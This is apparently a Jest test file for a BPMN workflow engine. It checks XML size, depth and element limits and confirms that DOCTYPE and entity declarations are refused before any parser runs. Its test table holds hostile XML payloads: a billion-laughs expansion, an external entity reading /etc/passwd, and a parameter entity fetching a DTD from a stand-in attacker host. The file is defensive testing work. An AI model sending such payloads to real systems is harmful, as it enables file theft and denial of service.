import { readFileSync } from 'node:fs';
import BpmnModdle from 'bpmn-moddle';
import { BpmnInvalidError, parseProcessModel } from '../../../src/engine/process/bpmn-model';
import { MAX_BPMN_BYTES, MAX_BPMN_DEPTH, MAX_BPMN_ELEMENTS, precheckXml } from '../../../src/engine/process/xml-precheck';

/** bpmn-moddle exports a factory: its instances' prototype carries fromXML. */
const MODDLE_PROTOTYPE = Object.getPrototypeOf(new BpmnModdle()) as { fromXML: (...args: unknown[]) => unknown };
const SAMPLE = readFileSync('processes/sample.bpmn', 'utf8');
const nested = (n: number) => `<r>${'<a>'.repeat(n - 1)}${'</a>'.repeat(n - 1)}</r>`;

describe('precheckXml', () => {
  it('lets every city diagram through', () => {
    for (const city of ['sample', 'haikou', 'huizhou', 'anshan', 'pingdingshan', 'dazhu']) {
      expect(precheckXml(readFileSync(`processes/${city}.bpmn`, 'utf8'))).toEqual([]);
    }
  });

  it(`allows ${MAX_BPMN_DEPTH} levels of nesting and refuses one more, naming the line`, () => {
    expect(precheckXml(nested(MAX_BPMN_DEPTH))).toEqual([]);
    expect(precheckXml(`\n\n${nested(MAX_BPMN_DEPTH + 1)}`)).toEqual([
      { path: 'xml', code: 'BPMN_TOO_DEEP', message: `elements nested more than ${MAX_BPMN_DEPTH} deep (line 3)` },
    ]);
  });

  it(`allows ${MAX_BPMN_ELEMENTS} elements and refuses one more`, () => {
    expect(precheckXml(`<r>${'<a/>'.repeat(MAX_BPMN_ELEMENTS - 1)}</r>`)).toEqual([]);
    expect(precheckXml(`<r>${'<a/>'.repeat(MAX_BPMN_ELEMENTS)}</r>`)[0]?.code).toBe('BPMN_TOO_MANY_ELEMENTS');
  });

  it('does not count what only looks like a tag: comments, CDATA, processing instructions, ">" in attributes', () => {
    const noise = `<?xml version="1.0"?><r><!-- ${'<a>'.repeat(100)} --><![CDATA[${'<a>'.repeat(100)}]]><b x="1 > 0" y='<'/></r>`;
    expect(precheckXml(noise)).toEqual([]);
  });

  it('refuses any DOCTYPE or ENTITY, in any case, and a text over the size limit', () => {
    expect(precheckXml('<!doctype x><x/>')[0]?.code).toBe('BPMN_DOCTYPE_REFUSED');
    expect(precheckXml('<x><!ENTITY a "b"></x>')[0]?.code).toBe('BPMN_DOCTYPE_REFUSED');
    expect(precheckXml(`<x>${'é'.repeat(MAX_BPMN_BYTES / 2)}</x>`)[0]).toMatchObject({ code: 'BPMN_TOO_LARGE', message: expect.stringMatching(new RegExp(`bytes; at most ${MAX_BPMN_BYTES}`)) });
  });
});

describe('parseProcessModel refuses hostile text before any XML parser reads it', () => {
  const HOSTILE: Record<string, string> = {
    'billion laughs': '<!DOCTYPE l [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;&a;&a;">]><x>&b;</x>',
    'external entity': '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>',
    'parameter entity': '<!DOCTYPE x [<!ENTITY % p SYSTEM "http://attacker.invalid/p.dtd"> %p;]><x/>',
    'deep nesting': nested(10_000),
    'many elements': `<r>${'<a/>'.repeat(100_000)}</r>`,
  };

  it.each(Object.entries(HOSTILE))('%s', async (_name, xml) => {
    const fromXML = jest.spyOn(MODDLE_PROTOTYPE, 'fromXML');
    try {
      await expect(parseProcessModel(xml)).rejects.toThrow(BpmnInvalidError);
      expect(fromXML).not.toHaveBeenCalled();
    } finally {
      fromXML.mockRestore();
    }
  });

  it('while a good diagram does reach the parser', async () => {
    const fromXML = jest.spyOn(MODDLE_PROTOTYPE, 'fromXML');
    try {
      await parseProcessModel(SAMPLE);
      expect(fromXML).toHaveBeenCalledTimes(1);
    } finally {
      fromXML.mockRestore();
    }
  });
});
